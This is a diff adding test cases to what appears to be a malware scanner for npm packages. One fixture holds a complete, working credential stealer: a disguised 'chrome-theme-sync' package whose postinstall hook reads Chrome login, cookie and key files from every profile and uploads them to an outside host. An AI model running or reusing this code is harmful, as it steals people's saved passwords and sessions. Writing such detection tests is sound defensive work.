@@ -2366,6 +2366,48 @@ document.addEventListener('click', remember, true); flush();`,
   });
 });
 
+describe('the token stealer rewritten: browser profile files, a helper that base64-encodes, a Blob in a form', () => {
+  it('files of every browser profile read by an async helper, handed by name to .then, posted as Blobs', () => {
+    const r = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'chrome-theme-sync',
+        version: '1.2.0',
+        main: 'index.js',
+        scripts: { postinstall: 'node index.js' },
+      }),
+      'lib/collect.js': `const { readdir, readFile } = require('fs/promises'); const { join } = require('path'); const os = require('os');
+const BASES = { win32: [process.env.LOCALAPPDATA, 'Google', 'Chrome', 'User Data'], linux: [os.homedir(), '.config', 'google-chrome'] };
+const WANT = ['Login Data', 'Cookies', 'Local State', 'Web Data'];
+async function collect() {
+  const base = join(...BASES[process.platform]); const out = [];
+  for (const prof of await readdir(base)) for (const name of WANT) {
+    try { out.push({ prof, name, data: (await readFile(join(base, prof, name))).toString('base64') }); } catch {}
+  }
+  return out;
+}
+module.exports = collect;`,
+      'lib/send.js': `module.exports = async function send(items) {
+  for (const it of items) {
+    const fd = new FormData(); fd.append('document', new Blob([Buffer.from(it.data, 'base64')]), it.prof + '-' + it.name);
+    await fetch('https://sync.example-themes.dev/upload', { method: 'POST', body: fd });
+  }
+};`,
+      'index.js': `const collect = require('./lib/collect'); const send = require('./lib/send'); collect().then(send).catch(() => {});`,
+    });
+    expect(r.risk_level).toBe('critical');
+    expect(threatsOf(r)).toContain('data_exfiltration');
+  });
+  it('an upload helper that base64-encodes the file it is given and posts it as a Blob sends no secret', () => {
+    const r = analyzeSource({
+      'package.json': pkg(),
+      'index.js': `const fs = require('fs');
+function encode(p) { return fs.readFileSync(p).toString('base64'); }
+module.exports = async (url, file) => { const fd = new FormData(); fd.append('f', new Blob([Buffer.from(encode(file), 'base64')])); return fetch(url, { method: 'POST', body: fd }); };`,
+    });
+    expect(threatsOf(r)).toEqual([]);
+  });
+});
+
 describe('two samples rewritten as an attacker would', () => {
   it('the terminal flood moved into a helper file the entry requires, its text in a config object, do … while (1)', () => {
     const r = analyzeSource({
